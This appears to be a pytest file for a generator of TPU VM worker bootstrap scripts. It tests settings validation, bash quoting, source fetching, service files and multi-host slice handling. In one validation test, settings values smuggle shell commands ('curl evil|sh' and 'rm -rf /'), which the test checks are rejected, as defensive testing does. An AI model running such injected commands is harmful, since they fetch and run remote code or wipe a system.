"""The worker bootstrap script: its settings are checked, its values quoted, and its steps
(fetch traindeck from git or a tarball, write the worker's service) run for real in bash, in a
temporary folder instead of /opt and /etc."""

from __future__ import annotations

import http.server
import io
import os
import re
import stat
import subprocess
import tarfile
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from cloud.bootstrap import (
    STORE_NOT_SHARED,
    TORCH_XLA_VERSION,
    BootstrapSettings,
    build_startup_script,
    database_url_problems,
    store_url_problems,
)

PROJECT_ROOT = Path(__file__).resolve().parents[2]
DATABASE_URL = "postgresql+psycopg://trainer:p%40ss;w&rd@10.128.0.9:5432/traindeck"
STORE_URL = "gs://traindeck-shared/td"
LOCK = "torch==2.9.0 \\\n    --hash=sha256:00\n"


def _settings(**changes) -> BootstrapSettings:
    fields = {
        "node_name": "spot-1",
        "database_url": DATABASE_URL,
        "source_url": "https://github.com/example/traindeck.git",
        "store_url": STORE_URL,
        **changes,
    }
    return BootstrapSettings(**fields)


def _run_steps(script: str, steps: str, base: Path) -> subprocess.CompletedProcess[str]:
    """Source the script (defining its steps only), move its folders under `base`, run `steps`."""
    script_file = base / "startup.sh"
    script_file.write_text(script)
    program = (
        "set -euo pipefail\n"
        f"TRAINDECK_BOOTSTRAP_DEFINE_ONLY=1 source {script_file}\n"
        f'BASE={base}/opt; SRC="$BASE/src"; VENV="$BASE/venv"\n'
        f"ENV_FILE={base}/etc/traindeck/worker.env\n"
        f"UNIT_FILE={base}/etc/traindeck-worker.service\n"
        f"TRAINDECK_DATA={base}/data\n"
        f"{steps}\n"
    )
    return subprocess.run(
        ["bash", "-c", program], capture_output=True, text=True, timeout=60, check=False
    )


def test_the_script_is_valid_bash_with_the_pinned_stack_and_the_worker_id():
    script = build_startup_script(_settings())

    assert script.startswith("#!/bin/bash\n")
    syntax = subprocess.run(["bash", "-n"], input=script, capture_output=True, text=True)
    assert syntax.returncode == 0, syntax.stderr
    assert "WORKER_ID=tpu-spot-1\n" in script
    assert "TORCH_XLA_REQUIREMENT='torch_xla[tpu]==2.9.0'" in script
    assert 'pip install --quiet -r "$SRC/requirements.lock" "$TORCH_XLA_REQUIREMENT"' in script
    stamp = 'stamp="$(sha256sum "$SRC/requirements.lock" | cut -d\' \' -f1) $TORCH_XLA_REQUIREMENT"'
    assert stamp in script
    assert f"TRAINDECK_STORE={STORE_URL}\n" in script
    assert "python3.11 -m venv" in script
    assert "ExecStart=$VENV/bin/python -m worker --worker-id $WORKER_ID" in script
    assert "PJRT_DEVICE=TPU" in script


def test_the_torch_xla_pin_matches_requirements_txt():
    requirements = (PROJECT_ROOT / "requirements.txt").read_text()
    assert re.search(rf"^torch_xla=={re.escape(TORCH_XLA_VERSION)}$", requirements, re.M)


def test_values_reach_bash_exactly_as_typed(tmp_path: Path):
    settings = _settings(source_ref="release/1.2", data_dir="/mnt/shared_data")
    result = _run_steps(
        build_startup_script(settings),
        'printf "%s\\n" "$WORKER_ID" "$DATABASE_URL" "$SOURCE_URL" "$SOURCE_REF" '
        '"$TRAINDECK_STORE"',
        tmp_path,
    )

    assert result.returncode == 0, result.stderr
    assert result.stdout.splitlines() == [
        "tpu-spot-1",
        DATABASE_URL,
        "https://github.com/example/traindeck.git",
        "release/1.2",
        STORE_URL,
    ]


def test_settings_that_cannot_work_are_named():
    assert database_url_problems("sqlite:////srv/traindeck.db")[0].startswith(
        "The database is a SQLite file on this machine"
    )
    assert "points at 127.0.0.1" in database_url_problems("postgresql://u@127.0.0.1/db")[0]
    assert "points at localhost" in database_url_problems("postgres://u@localhost:5432/db")[0]
    assert "URL-encode" in database_url_problems("postgresql://u:pa$$@10.0.0.2/db")[0]
    assert database_url_problems("mysql://u@10.0.0.2/db") == [
        "The database URL must be a postgresql:// URL, not 'mysql'://…"
    ]
    assert database_url_problems("") == [
        "Set the database URL the workers use: the shared Postgres server."
    ]
    assert database_url_problems(DATABASE_URL) == []

    bad = _settings(
        node_name="Spot 1",
        source_url="https://example.com/x.zip; curl evil|sh",
        source_ref="main; rm -rf /",
        data_dir="relative/data",
    )
    problems = bad.problems()
    assert len(problems) == 4
    with pytest.raises(ValueError, match="is not a valid TPU VM name"):
        build_startup_script(bad)
    assert _settings(source_url="").problems()[0].startswith("Say where the VM gets traindeck")
    assert _settings(store_url="").problems() == [STORE_NOT_SHARED]
    tarball = _settings(source_url="https://example.com/traindeck-1.0.tar.gz", source_ref="")
    assert tarball.problems() == [] and tarball.source_is_tarball
    assert _settings(source_url="git@github.com:example/traindeck.git").problems() == []


def _tarball(path: Path, top: str) -> None:
    with tarfile.open(path, "w:gz") as archive:
        files = (
            ("requirements.txt", "torch==2.9.0\n"),
            ("requirements.lock", LOCK),
            ("worker/__init__.py", ""),
        )
        for name, text in files:
            data = text.encode()
            info = tarfile.TarInfo(f"{top}{name}")
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))


@pytest.mark.parametrize("top", ["traindeck-1.0/", ""])
def test_fetch_source_unpacks_a_tarball_with_or_without_a_top_folder(tmp_path: Path, top: str):
    archive = tmp_path / "traindeck.tar.gz"
    _tarball(archive, top)
    script = build_startup_script(_settings(source_url="https://example.com/traindeck.tar.gz"))
    script = script.replace(
        "SOURCE_URL=https://example.com/traindeck.tar.gz", f"SOURCE_URL=file://{archive}"
    )

    result = _run_steps(script, "fetch_source", tmp_path)

    assert result.returncode == 0, result.stderr
    source = tmp_path / "opt" / "src"
    assert (source / "requirements.txt").read_text() == "torch==2.9.0\n"
    assert (source / "requirements.lock").read_text() == LOCK
    assert (source / "worker" / "__init__.py").is_file()
    assert not (tmp_path / "opt" / "src.new").exists()


def _git(*args: str, cwd: Path) -> None:
    environment = {
        **os.environ,
        "GIT_AUTHOR_NAME": "t",
        "GIT_AUTHOR_EMAIL": "t@example.com",
        "GIT_COMMITTER_NAME": "t",
        "GIT_COMMITTER_EMAIL": "t@example.com",
    }
    subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True, env=environment)


def test_fetch_source_clones_then_updates_a_git_repository(tmp_path: Path):
    origin = tmp_path / "origin"
    origin.mkdir()
    _git("init", "--quiet", "--initial-branch=main", cwd=origin)
    (origin / "requirements.txt").write_text("torch==2.9.0\n")
    (origin / "requirements.lock").write_text(LOCK)
    _git("add", "requirements.txt", "requirements.lock", cwd=origin)
    _git("commit", "--quiet", "-m", "first", cwd=origin)
    script = build_startup_script(_settings()).replace(
        "SOURCE_URL=https://github.com/example/traindeck.git", f"SOURCE_URL=file://{origin}"
    )

    first = _run_steps(script, "fetch_source", tmp_path)
    (origin / "requirements.txt").write_text("torch==2.9.0\nfastai==2.8.12\n")
    (origin / "requirements.lock").write_text(LOCK + "fastai==2.8.12\n")
    _git("commit", "--quiet", "-am", "second", cwd=origin)
    second = _run_steps(script, "fetch_source", tmp_path)

    assert first.returncode == 0, first.stderr
    assert second.returncode == 0, second.stderr
    requirements = tmp_path / "opt" / "src" / "requirements.txt"
    assert requirements.read_text() == "torch==2.9.0\nfastai==2.8.12\n"
    assert requirements.with_name("requirements.lock").read_text() == LOCK + "fastai==2.8.12\n"


def test_a_tarball_without_traindeck_is_refused(tmp_path: Path):
    archive = tmp_path / "other.tar.gz"
    with tarfile.open(archive, "w:gz") as handle:
        info = tarfile.TarInfo("README")
        handle.addfile(info, io.BytesIO(b""))
    script = build_startup_script(_settings(source_url="https://example.com/other.tar.gz"))
    script = script.replace("https://example.com/other.tar.gz", f"file://{archive}")

    result = _run_steps(script, "fetch_source", tmp_path)

    assert result.returncode != 0
    assert "holds no requirements.lock: is it traindeck?" in result.stderr


def test_the_worker_service_runs_python_m_worker_with_the_shared_database(tmp_path: Path):
    result = _run_steps(build_startup_script(_settings()), "write_worker_service", tmp_path)

    assert result.returncode == 0, result.stderr
    environment = tmp_path / "etc" / "traindeck" / "worker.env"
    assert environment.read_text().splitlines() == [
        f"DATABASE_URL={DATABASE_URL}",
        f"TRAINDECK_STORE={STORE_URL}",
        f"TRAINDECK_DATA={tmp_path}/data",
        "PJRT_DEVICE=TPU",
    ]
    assert stat.S_IMODE(environment.stat().st_mode) == 0o600, "the URL holds a password"
    unit = (tmp_path / "etc" / "traindeck-worker.service").read_text()
    assert f"ExecStart={tmp_path}/opt/venv/bin/python -m worker --worker-id tpu-spot-1\n" in unit
    assert f"EnvironmentFile={environment}\n" in unit
    assert f"WorkingDirectory={tmp_path}/opt/src\n" in unit
    assert "Restart=on-failure" in unit
    assert (tmp_path / "data").is_dir()


def test_the_script_serves_one_host_and_claims_nothing_about_slices(tmp_path: Path):
    """Every host of a multi-host slice would have to run the same program, so there is no
    "worker on host 0" logic: cloud.tpu refuses such types, and the script runs every step."""
    script = build_startup_script(_settings()).replace(
        "/var/log/traindeck-bootstrap.log", str(tmp_path / "bootstrap.log")
    )
    assert "host 0" not in script and "agent-worker-number" not in script
    assert "single-host TPU VM" in script.splitlines()[2]
    steps = (
        "install_system_packages() { echo install; }; fetch_source() { echo fetch; }\n"
        "install_python_stack() { echo stack; }; write_worker_service() { echo service; }\n"
        'systemctl() { echo "systemctl $*"; }; curl() { echo 1; }\n'
        "main"
    )

    result = _run_steps(script, steps, tmp_path)

    assert result.returncode == 0, result.stderr
    log = (tmp_path / "bootstrap.log").read_text().splitlines()
    assert log[1:] == [
        "install",
        "fetch",
        "stack",
        "service",
        "systemctl daemon-reload",
        "systemctl restart traindeck-worker.service",
        "== traindeck worker tpu-spot-1 started; follow it: journalctl -u traindeck-worker -f",
    ]


def test_store_urls_a_worker_cannot_share_are_named():
    assert store_url_problems("") == [STORE_NOT_SHARED]
    assert "workers on other machines cannot read this machine's folder" in STORE_NOT_SHARED
    assert "is not a store URL" in store_url_problems("file:///srv/store")[0]
    assert "is not a store URL" in store_url_problems("s3://bucket/td")[0]
    assert "a space, a quote" in store_url_problems("gs://bucket/my td")[0]
    assert store_url_problems("gs://traindeck-shared") == []
    script = build_startup_script(_settings(store_url="gs://traindeck-shared/td/"))
    assert "TRAINDECK_STORE=gs://traindeck-shared/td\n" in script


def test_the_stack_is_installed_from_the_lock_once_per_lock(tmp_path: Path):
    """The venv is made and the lock installed; a reboot with the same lock (and torch_xla)
    reuses it; a changed lock installs again."""
    source = tmp_path / "opt" / "src"
    source.mkdir(parents=True)
    (source / "requirements.lock").write_text(LOCK)
    calls = tmp_path / "calls"
    # python3.11 -m venv DIR makes DIR/bin/python, which logs how pip was called.
    fake_python = (
        "python3.11() {\n"
        '    mkdir -p "$3/bin"\n'
        f'    printf \'#!/bin/bash\\necho "$*" >>{calls}\\n\' >"$3/bin/python"\n'
        '    chmod +x "$3/bin/python"\n'
        "}\n"
    )
    script = build_startup_script(_settings())

    first = _run_steps(script, fake_python + "install_python_stack", tmp_path)
    again = _run_steps(script, fake_python + "install_python_stack", tmp_path)
    installs = calls.read_text().splitlines()
    (source / "requirements.lock").write_text(LOCK + "fastai==2.8.12\n")
    changed = _run_steps(script, fake_python + "install_python_stack", tmp_path)

    assert first.returncode == again.returncode == changed.returncode == 0, first.stderr
    assert installs == [
        "-m pip install --quiet --upgrade pip",
        f"-m pip install --quiet -r {source}/requirements.lock torch_xla[tpu]=={TORCH_XLA_VERSION}",
    ], "the second boot installs nothing"
    assert calls.read_text().splitlines() == installs * 2
    stamp = (tmp_path / "opt" / "venv" / ".traindeck-stamp").read_text().split()
    assert stamp[1] == f"torch_xla[tpu]=={TORCH_XLA_VERSION}" and len(stamp[0]) == 64


# --- a multi-host slice: a worker on every host (issue 25) -----------------------------------


class _Metadata(http.server.BaseHTTPRequestHandler):
    """The TPU metadata server's `agent-worker-number`, as a TPU VM host answers it."""

    worker_number = "2"

    def do_GET(self) -> None:
        path = "/computeMetadata/v1/instance/attributes/agent-worker-number"
        if self.path != path or self.headers.get("Metadata-Flavor") != "Google":
            self.send_error(404)
            return
        body = self.worker_number.encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args) -> None:
        """Quiet."""


@pytest.fixture
def metadata_server() -> Iterator[str]:
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Metadata)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
    thread.start()
    try:
        yield f"127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()


def _slice_script(tmp_path: Path, hosts: int = 4) -> str:
    return build_startup_script(_settings(node_name="pod-1", slice_hosts=hosts)).replace(
        "/var/log/traindeck-bootstrap.log", str(tmp_path / "bootstrap.log")
    )


def test_a_slice_script_is_valid_bash_and_says_it_is_experimental(tmp_path: Path):
    script = _slice_script(tmp_path)

    syntax = subprocess.run(["bash", "-n"], input=script, capture_output=True, text=True)
    assert syntax.returncode == 0, syntax.stderr
    assert "for each of its 4 hosts (experimental: not verified on a real slice)" in script
    # Every host starts its worker as tpu-pod-1: host N > 0's names itself tpu-pod-1-host<N>.
    assert "WORKER_ID=tpu-pod-1\nTRAINDECK_SLICE=pod-1\nSLICE_HOSTS=4\n" in script
    assert "learn_host_index" in script
    assert _settings(slice_hosts=0).problems() == [
        "The number of hosts 0 is not a whole number from 1 to 4096."
    ]


def test_each_host_learns_its_number_from_the_metadata_server(tmp_path: Path, metadata_server):
    steps = f"GCE_METADATA_HOST={metadata_server}\nlearn_host_index\nwrite_worker_service"

    result = _run_steps(_slice_script(tmp_path), steps, tmp_path)

    assert result.returncode == 0, result.stderr
    environment = (tmp_path / "etc" / "traindeck" / "worker.env").read_text().splitlines()
    # The worker finds its number itself (worker.tpu_slice), as its job process's libtpu does.
    assert environment[-1] == "TRAINDECK_SLICE=pod-1"
    assert not any("HOST_INDEX" in line for line in environment)
    unit = (tmp_path / "etc" / "traindeck-worker.service").read_text()
    assert "-m worker --worker-id tpu-pod-1\n" in unit
    assert "== host 2 of the 4 hosts of slice pod-1" in result.stdout


@pytest.mark.parametrize("host", [0, 3])
def test_without_the_metadata_server_tpu_worker_id_decides(tmp_path: Path, host: int):
    """Every host runs the same script and starts a worker of its own."""
    steps = (
        f"GCE_METADATA_HOST=127.0.0.1:1; METADATA_RETRIES=0; TPU_WORKER_ID={host}\n"
        "install_system_packages() { echo install; }; fetch_source() { echo fetch; }\n"
        "install_python_stack() { echo stack; }; write_worker_service() {\n"
        '    echo "service $WORKER_ID $TRAINDECK_SLICE $HOST_INDEX"; }\n'
        'systemctl() { echo "systemctl $*"; }\n'
        "main"
    )

    result = _run_steps(_slice_script(tmp_path), steps, tmp_path)

    assert result.returncode == 0, result.stderr
    log = (tmp_path / "bootstrap.log").read_text()
    assert "the TPU metadata server did not say which host this is" in log
    assert f"== host {host} of the 4 hosts of slice pod-1\n" in log
    assert f"service tpu-pod-1 pod-1 {host}\n" in log
    assert "== traindeck worker tpu-pod-1 started;" in log


@pytest.mark.parametrize(
    ("worker_id", "error"),
    [
        ("", "this host's number is unknown"),
        ("one", "this host's number is unknown"),
        ("4", "host 4 of a slice of 4 hosts: no worker is started"),
    ],
)
def test_a_host_that_cannot_tell_its_number_starts_no_worker(
    tmp_path: Path, worker_id: str, error: str
):
    steps = (
        f"GCE_METADATA_HOST=127.0.0.1:1; METADATA_RETRIES=0; TPU_WORKER_ID={worker_id}\n"
        "install_system_packages() { echo install; }; fetch_source() { echo fetch; }\n"
        "install_python_stack() { echo stack; }; write_worker_service() { echo service; }\n"
        'systemctl() { echo "systemctl $*"; }\n'
        "main"
    )

    result = _run_steps(_slice_script(tmp_path), steps, tmp_path)

    assert result.returncode != 0
    log = (tmp_path / "bootstrap.log").read_text()
    assert error in log
    assert "install" not in log and "systemctl" not in log
